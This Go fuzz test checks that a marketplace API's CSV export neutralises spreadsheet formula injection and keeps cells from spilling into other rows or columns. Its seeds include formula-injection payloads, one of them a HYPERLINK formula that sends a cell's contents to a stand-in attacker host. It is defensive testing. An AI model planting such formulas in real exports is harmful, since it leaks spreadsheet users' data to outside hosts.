package httpapi

import (
	"bytes"
	"encoding/csv"
	"net/http/httptest"
	"strings"
	"testing"
)

// FuzzCSVExport writes cells a marketplace controls (titles, seller names)
// into the CSV export and reads the file back as a spreadsheet would: every
// cell comes back as written, except that none starts as a formula, and
// no cell spills into another row or column.
func FuzzCSVExport(f *testing.F) {
	for _, seed := range [][2]string{
		{"陆个核桃 核桃乳 240ml*20罐", "鑫旺食品专营店"},
		{`=HYPERLINK("http://evil.example/?"&A1,"点击领券")`, "+86 138 0000 0000"},
		{"-1+1", "@SUM(A1:A9)"},
		{"\t=1+1", "\r=1+1"},
		{"衡水\"老白干\", 67度\n整箱", "旺鑫,副食\r\n批发部"},
		{"\ufeff=1", "\x00\xff"},
	} {
		f.Add(seed[0], seed[1])
	}
	f.Fuzz(func(t *testing.T, title, seller string) {
		rec := httptest.NewRecorder()
		writeCSV(rec, "alerts", []string{"title", "seller"}, [][]string{{title, seller}})
		body, ok := bytes.CutPrefix(rec.Body.Bytes(), []byte("\ufeff"))
		if !ok {
			t.Fatal("the export has no byte-order mark")
		}
		r := csv.NewReader(bytes.NewReader(body))
		r.LazyQuotes = false
		records, err := r.ReadAll()
		if err != nil {
			t.Fatalf("the export of %q, %q does not read back: %v\n%q", title, seller, err, body)
		}
		if len(records) != 2 || len(records[1]) != 2 {
			t.Fatalf("the export of %q, %q reads as %q", title, seller, records)
		}
		for i, in := range []string{title, seller} {
			got := records[1][i]
			// A quoted field's \r\n reads back as \n (encoding/csv, as
			// spreadsheets do); a lone \r stays.
			if want := strings.ReplaceAll(inertCell(in), "\r\n", "\n"); got != want {
				t.Fatalf("cell %q reads back as %q, want %q", in, got, want)
			}
			if got != "" && strings.ContainsRune("=+-@\t\r", rune(got[0])) {
				t.Fatalf("cell %q reads back as %q, which a spreadsheet runs as a formula", in, got)
			}
		}
	})
}
